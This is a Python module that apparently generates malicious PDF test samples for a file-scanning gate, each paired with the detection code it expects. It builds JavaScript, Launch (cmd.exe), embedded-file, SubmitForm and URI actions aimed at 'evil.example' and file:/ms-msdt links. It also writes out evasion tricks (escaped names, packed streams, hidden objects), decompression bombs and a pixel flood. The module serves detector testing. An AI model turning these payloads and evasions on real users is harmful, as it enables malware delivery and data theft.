"""Attacks on PDF: dangerous names, plain and hidden in every way that readers forgive."""

import zlib
from collections.abc import Callable, Iterator

from hengji.foundation.evidence.gate import Code

from .build import Sample, packed, pdf, stream

_ACTIONS: tuple[tuple[str, bytes, Code], ...] = (
    ("script", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", Code.PDF_SCRIPT),
    ("script only JS", b"<< /JS 9 0 R >>", Code.PDF_SCRIPT),
    ("form script", b"<< /XFA 9 0 R >>", Code.PDF_SCRIPT),
    ("launch", b"<< /S /Launch /F (cmd.exe) >>", Code.PDF_LAUNCH),
    ("file", b"<< /Type /Filespec /EF << /F 9 0 R >> /Sub /EmbeddedFile >>", Code.PDF_ATTACHMENT),
    ("files", b"<< /Names << /EmbeddedFiles 9 0 R >> >>", Code.PDF_ATTACHMENT),
    ("pinned file", b"<< /Type /Annot /Subtype /FileAttachment >>", Code.PDF_ATTACHMENT),
    ("portfolio", b"<< /Collection << /View /D >> >>", Code.PDF_ATTACHMENT),
    ("other file", b"<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>", Code.PDF_ACTION),
    ("inner file", b"<< /S /GoToE >>", Code.PDF_ACTION),
    ("sending", b"<< /S /SubmitForm /F (http://evil.example) >>", Code.PDF_ACTION),
    ("import", b"<< /S /ImportData /F (a.fdf) >>", Code.PDF_ACTION),
    ("rendition", b"<< /S /Rendition >>", Code.PDF_ACTION),
    ("rich media", b"<< /Subtype /RichMedia >>", Code.PDF_ACTION),
    ("movie", b"<< /Subtype /Movie >>", Code.PDF_ACTION),
    ("sound", b"<< /S /Sound >>", Code.PDF_ACTION),
    ("automatic", b"<< /AA << /O 9 0 R >> >>", Code.PDF_ACTION),
)
_LONG = frozenset({"script", "launch", "file", "files", "inner file", "sending", "import"})


def _escaped(content: bytes) -> bytes:
    """The same names with a letter written as its number."""
    for name in (b"JavaScript", b"JS", b"XFA", b"Launch", b"EmbeddedFile", b"FileAttachment", b"Collection", b"GoToR",
                 b"GoToE", b"SubmitForm", b"ImportData", b"Rendition", b"RichMedia", b"Movie", b"Sound", b"AA"):  # fmt: skip
        content = content.replace(b"/" + name, b"/" + name[:1] + b"#%02x" % name[1] + name[2:])
    return content


_HIDINGS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda action: pdf({8: action}),
    "escaped": lambda action: pdf({8: _escaped(action)}),
    "packed": lambda action: pdf({8: packed({9: action})}),
    "packed and escaped": lambda action: pdf({8: packed({9: b"<<>>", 10: _escaped(action)})}),
    "packed without filter": lambda action: pdf({8: packed({9: action}, filters=b"")}),
    "behind an open string": lambda action: pdf({8: b"(never closed", 9: action}),
    "inside a string": lambda action: pdf({8: b"(a 9 0 obj " + action + b" endobj b)"}),
    "inside a comment": lambda action: pdf({8: b"% 9 0 obj " + action + b" endobj\n<<>>"}),
    "inside a stream": lambda action: pdf({8: stream(b"", b"9 0 obj " + action + b" endobj")}),
    "in a later version": lambda action: (
        pdf() + b"8 0 obj\n" + action + b"\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
    ),
}
_ONLY_LONG: dict[str, Callable[[bytes], bytes]] = {
    "behind a false stream": lambda action: pdf({8: b"<< /T (x 1 obj >> stream\n y) /A " + action + b" >>"}),
    "in a stored block": lambda action: pdf({8: stream(b"/Filter /FlateDecode", zlib.compress(action, 0))}),
}


def pdf_attacks() -> Iterator[Sample]:
    for title, action, code in _ACTIONS:
        for hiding, write in (_HIDINGS | (_ONLY_LONG if title in _LONG else {})).items():
            yield Sample("pdf", f"{title}, {hiding}", "a.pdf", write(action), code)
    for title, content, code in (*_starts(), *_frames(), *_streams()):
        yield Sample("pdf", title, "a.pdf", content, code)


Case = tuple[str, bytes, Code]


def _starts() -> Iterator[Case]:
    """What happens on opening, and where links lead."""
    action = Code.PDF_ACTION
    page = b"<< /S /URI /URI (http://evil.example) >>"
    yield "opens a page of the web", pdf(catalog=b"/OpenAction " + page), action
    yield "opens by reference", pdf({8: page}, catalog=b"/OpenAction 8 0 R"), action
    yield "opens by packed reference", pdf({8: packed({9: page})}, catalog=b"/OpenAction 9 0 R"), action
    yield "opens what is missing", pdf(catalog=b"/OpenAction 99 0 R"), action
    yield "opens by one of two", pdf({8: b"[3 0 R /Fit]"}, catalog=b"/OpenAction 8 0 R") + (
        b"8 0 obj\n" + page + b"\nendobj\nstartxref\n9\n%%EOF\n"), action  # fmt: skip
    yield "opens something odd", pdf(catalog=b"/OpenAction (a)"), action
    yield "escaped opening", pdf(catalog=b"/Open#41ction " + page), action
    for address in (b"(file:///C:/a.exe)", b"(javascript:alert\\(1\\))", b"(ms-msdt:/id)", b"(java\\script:a)",
                    b"<" + b"file://evil/a".hex().encode() + b">", b"(\\\\ file:a)"):  # fmt: skip
        yield f"link {address!r}", pdf(page=b"/A << /S /URI /URI %s >>" % address), action
    packed_link = packed({9: b"<< /S /URI /URI (file:///C:/a.exe) >>"})
    yield "packed link", pdf({8: packed_link}), action


def _frames() -> Iterator[Case]:
    good = pdf()
    yield "no end", good.replace(b"%%EOF", b""), Code.PDF_BROKEN
    yield "no start of the table", good.replace(b"startxref", b""), Code.PDF_BROKEN
    yield "cut off", good[:200], Code.PDF_BROKEN
    yield "no version", good.replace(b"%PDF-1.7", b"%PDF-x.y"), Code.PDF_BROKEN
    yield "future version", pdf(version=b"9.9"), Code.PDF_BROKEN
    yield "no objects", b"%PDF-1.7\nstartxref\n0\n%%EOF\n", Code.PDF_BROKEN
    yield "locked", pdf({8: b"<< /Filter /Standard /V 4 >>"}, trailer=b"/Encrypt 8 0 R"), Code.PDF_ENCRYPTED
    yield "locked, escaped", pdf(trailer=b"/Encryp#74 8 0 R"), Code.PDF_ENCRYPTED
    yield "locked by a stream", pdf({8: stream(b"/Type /XRef /Encrypt 9 0 R", b"")}), Code.PDF_ENCRYPTED
    yield "mail behind the end", good + b"From: a\r\n\r\nhello", Code.POLYGLOT


def _streams() -> Iterator[Case]:
    hidden, bomb = Code.PDF_HIDDEN, Code.PDF_BOMB
    inside = {9: b"<< /S /JavaScript >>"}
    for filters in (b"/Filter /LZWDecode", b"/Filter /ASCII85Decode", b"/Filter [/ASCIIHexDecode /FlateDecode]",
                    b"/Filter [/FlateDecode /FlateDecode]", b"/Filter /Flate#44ecode /DecodeParms << /Predictor 12 >>",
                    b"/Filter /Fl", b"/Filter /RunLengthDecode"):  # fmt: skip
        yield f"packed with {filters!r}", pdf({8: packed(inside, filters=filters)}), hidden
    broken = stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"\x78\x9c" + b"\xff" * 40)
    yield "damaged packing", pdf({8: broken}), hidden
    disguised = stream(b"/Subtype /Image /N 1 /First 4 /Filter /LZWDecode", b"9 0 <<>>")
    yield "objects as a picture", pdf({8: disguised}), hidden
    yield "packed twice", pdf({8: stream(b"/Filter [/FlateDecode /FlateDecode]", b"")}), hidden
    yield "private lock", pdf({8: stream(b"/Filter /Crypt", b"")}), hidden
    zeros = zlib.compress(bytes(40_000_000), 9)
    yield "bomb", pdf({8: stream(b"/Filter /FlateDecode", zeros)}), bomb
    yield "bomb in pieces", pdf({n: stream(b"/Filter /FlateDecode", zeros[:20_000]) for n in range(8, 12)}), bomb
    yield "bomb of objects", pdf({8: stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zeros)}), bomb
    flood = stream(b"/Subtype /Image /Width 60000 /Height 60000 /Filter /FlateDecode", b"")
    yield "pixel flood", pdf({8: flood}), Code.IMAGE_PIXELS
